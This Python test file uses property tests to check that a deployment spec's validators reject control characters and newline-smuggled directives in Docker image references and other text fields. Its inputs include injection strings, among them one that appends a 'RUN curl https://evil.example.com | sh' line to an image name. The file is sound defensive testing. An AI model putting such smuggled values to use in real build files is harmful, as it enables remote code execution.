"""No value of a spec that validates adds a line, and with it a directive, to a file that is made of lines."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Annotated, Any, get_args

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError
from rows import each_row
from stacks import EVERYTHING, spec, templates, topology

from techsapo_ops.render.compose import package
from techsapo_ops.services.app.kind import app_build
from techsapo_ops.spec.fields import ROOT, sections_of
from techsapo_ops.spec.models.base import CONTROL, IMAGE_PATTERN, CommandLine, ImageReference

WORDS = ("redis:8", "/etc/x", "https://a/b", "10M", "30s", "a@b", "* * * * *", "127.0.0.1", "host:1", "name")
ODD = ("", "\n", "\nRUN id", "\r", "\r\nRUN id", "\x00", "\x0b", "\x0c", "\x1b[2J", "\x7f", "\x85", "\u2028")

fixed = settings(
    deadline=None, max_examples=60, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)


def texts(annotation: Any) -> Iterator[Any]:
    """The types of text in a field's type, also within lists and mappings."""
    if annotation is str or (hasattr(annotation, "__metadata__") and annotation.__origin__ is str):
        yield annotation
    else:
        for inner in get_args(annotation):
            yield from texts(inner)


def fields() -> Iterator[tuple[str, Any]]:
    for model in sections_of(ROOT):
        for name, info in model.model_fields.items():
            whole: Any = info.annotation
            for more in info.metadata if whole is str else ():
                whole = Annotated[whole, more]
            for n, annotation in enumerate(texts(whole)):
                if annotation not in (CommandLine, str):
                    yield f"{model.__name__}.{name}.{n}", annotation


def pieces() -> Iterator[str]:
    for word in WORDS:
        for odd in ODD:
            yield from (word + odd, odd + word, f"{word[:2]}{odd}{word[2:]}", word.replace(" ", odd))


@each_row("annotation", [pytest.param(a, id=name) for name, a in fields()])
def test_no_text_of_the_spec_that_is_taken_holds_a_control_character(annotation: Any) -> None:
    adapter = TypeAdapter(annotation)
    for text in pieces():
        with suppress(ValidationError):
            assert CONTROL.search(adapter.validate_python(text)) is None, text


def lines(**images: str) -> list[str]:
    """The first words of the lines of the Dockerfile."""
    model = spec(**EVERYTHING, images=images)
    where = topology(model, Path("/srv/x"), "compose")
    where = replace(where, spec=model)
    text = app_build(where, templates(), package(exact=False)).dockerfile
    return [line.split(" ")[0] for line in text.splitlines()]


WITHOUT = lines()


@fixed
@given(st.text() | st.from_regex(IMAGE_PATTERN) | st.sampled_from([f"python:3{odd}RUN id" for odd in ODD]))
@example("python:3\nRUN curl https://evil.example.com | sh")
@example("--platform=linux/arm64 python:3")
@example("python:3 AS x")
def test_no_image_that_is_taken_adds_a_line_to_a_dockerfile(image: str) -> None:
    try:
        model = spec(images={"base": image})
    except ValidationError:
        return
    assert lines(**model.images) == WITHOUT


@each_row(
    "image",
    [
        "redis", "redis:8", "docker.io/library/redis:8.0-alpine", "127.0.0.1:5000/x", "[::1]:5000/team/x",
        "a__b/c-d", f"redis@sha256:{'0' * 64}", f"ghcr.io/o/x:1@sha256:{'f' * 64}", f"sha256:{'0' * 64}",
        "localhost/x:1",
    ],
)  # fmt: skip
def test_references_of_images_are_taken(image: str) -> None:
    assert TypeAdapter(ImageReference).validate_python(image) == image


@each_row(
    "image",
    [
        "",
        " ",
        "Redis",
        "redis:",
        "redis:8 AS x",
        "redis@sha256:0",
        "a//b",
        "-x",
        "日本語",
        "https://a/b",
        "$X",
    ],
)
def test_what_is_no_reference_of_an_image_is_refused(image: str) -> None:
    with pytest.raises(ValidationError):
        TypeAdapter(ImageReference).validate_python(image)
